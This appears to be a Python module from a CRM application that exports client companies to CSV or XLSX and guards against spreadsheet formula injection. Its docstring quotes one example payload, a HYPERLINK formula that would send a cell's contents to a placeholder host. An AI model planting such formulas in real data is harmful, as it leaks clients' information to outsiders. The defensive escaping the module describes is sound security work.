"""Export of companies (C1; needs ``clients`` + ``export``): the visible companies
matching a filter, to CSV or XLSX, in the columns the import reads back.

No exported text becomes a formula in a spreadsheet (a client named
``=HYPERLINK("http://x/?d="&B3,"Open")`` stays that text):

- XLSX: every text cell is written with the string type, so it is exactly the text,
  never a formula or an error value; numbers (the id, the debt) stay numbers.
- CSV: a file has no types, so a text cell that a spreadsheet would evaluate gets a
  single quote in front (``'=HYPERLINK(…)``) by the OWASP rule (``domain.formulas``,
  which says why a phone number such as ``+7 495 111-22-33`` is left as it is); numbers
  are written as numbers (``-100.00``). The import takes that quote off again, so an
  exported file imported back gives the same names.

Both files are created readable by their owner only (mode 0600, ``qstui.files``):
they hold the clients' data.
"""

from __future__ import annotations

import csv
from collections.abc import Iterator, Sequence
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

from sqlalchemy import select
from sqlalchemy.orm import Session

from qstui.db.compat import chunks, id_in
from qstui.db.models import AppUser, Company, Email, Phone
from qstui.domain.clients import (
    ClientFilter,
)
from qstui.domain.errors import ValidationFailed
from qstui.domain.formatting import day
from qstui.domain.formulas import quote_formula
from qstui.files import open_private
from qstui.i18n import _, language
from qstui.services import rights as R
from qstui.services.clients.debt import client_debts
from qstui.services.clients.filters import restriction
from qstui.services.context import Context
from qstui.services.visibility import company_visible

# Columns written by the export: (field, Russian header, English header).
EXPORT_COLUMNS: tuple[tuple[str, str, str], ...] = (
    ("id", "Код", "ID"),
    ("name", "Наименование", "Name"),
    ("full_name", "Полное наименование", "Full name"),
    ("inn", "ИНН", "INN"),
    ("kpp", "КПП", "KPP"),
    ("ogrn", "ОГРН", "OGRN"),
    ("city", "Город", "City"),
    ("phone", "Телефон", "Phone"),
    ("email", "E-mail", "E-mail"),
    ("manager", "Менеджер", "Manager"),
    ("legal_address", "Адрес", "Address"),
    ("last_contact_at", "Последний контакт", "Last contact"),
    ("debt", "Долг", "Debt"),
)


# --- export --------------------------------------------------------------------------------


def export_rows(ctx: Context, flt: ClientFilter | None = None) -> Iterator[dict[str, Any]]:
    """The visible companies matching ``flt`` as export rows, in id order: the matching
    ids are found once, the rows read one IN list at a time (never all in memory)."""
    ctx.require(R.CLIENTS, R.EXPORT)
    narrow = restriction(ctx, flt or ClientFilter())
    with ctx.db.reader() as s:
        ids = list(
            s.scalars(narrow.apply(select(Company.id).select_from(Company)).order_by(Company.id))
        )
    for chunk in chunks(ids):
        with ctx.db.reader() as s:
            rows = s.execute(
                select(
                    Company.id,
                    Company.name,
                    Company.full_name,
                    Company.inn,
                    Company.kpp,
                    Company.ogrn,
                    Company.city,
                    AppUser.login.label("manager"),
                    Company.legal_address,
                    Company.last_contact_at,
                )
                .outerjoin(AppUser, AppUser.id == Company.manager_id)
                .where(id_in(Company.id, chunk), company_visible(ctx))
                .order_by(Company.id)
            ).all()
            phones = _first(s, Phone, Phone.number, chunk)
            emails = _first(s, Email, Email.address, chunk)
            debts = client_debts(s, chunk)
        for r in rows:
            yield {
                **r._asdict(),
                "phone": phones.get(r.id),
                "email": emails.get(r.id),
                "debt": debts[r.id],
            }


def _first(session: Session, model: Any, column: Any, ids: Sequence[int]) -> dict[int, str]:
    found: dict[int, str] = {}
    for company_id, value in session.execute(
        select(model.company_id, column)
        .where(id_in(model.company_id, ids), model.contact_id.is_(None))
        .order_by(model.company_id, model.id)
    ):
        found.setdefault(company_id, value)
    return found


def _headers() -> list[str]:
    ru = language() == "ru"
    return [ru_name if ru else en_name for _key, ru_name, en_name in EXPORT_COLUMNS]


def export_clients(ctx: Context, path: str | Path, flt: ClientFilter | None = None) -> int:
    """Write the visible companies matching ``flt`` to ``path`` (.csv: UTF-8 with BOM,
    ``;``-separated; .xlsx: an Excel sheet). Returns the number of companies."""
    ctx.require(R.CLIENTS, R.EXPORT)
    target = Path(path)
    suffix = target.suffix.lower()
    if suffix not in (".csv", ".xlsx"):
        raise ValidationFailed({"file": _("Export to a .csv or .xlsx file")})
    rows = export_rows(ctx, flt)
    keys = [key for key, _ru, _en in EXPORT_COLUMNS]
    count = 0
    if suffix == ".csv":
        with open_private(target, "w", encoding="utf-8-sig", newline="") as out:
            writer = csv.writer(out, delimiter=";")
            writer.writerow(_headers())
            for row in rows:
                writer.writerow([_csv_cell(row[k]) for k in keys])
                count += 1
        return count
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet(_("Clients"))
    sheet.append([_xlsx_cell(sheet, header) for header in _headers()])
    for row in rows:
        sheet.append([_xlsx_cell(sheet, row[k]) for k in keys])
        count += 1
    with open_private(target, "wb") as out:
        book.save(out)
    return count


def _xlsx_cell(sheet: Any, value: Any) -> Any:
    """A text as a string cell (openpyxl would make ``=…`` a formula and ``#N/A`` an
    error); anything else as it is."""
    if not isinstance(value, str):
        return value
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    return cell


def _csv_cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, datetime):
        return day(value)
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, str):
        return quote_formula(value)
    return str(value)
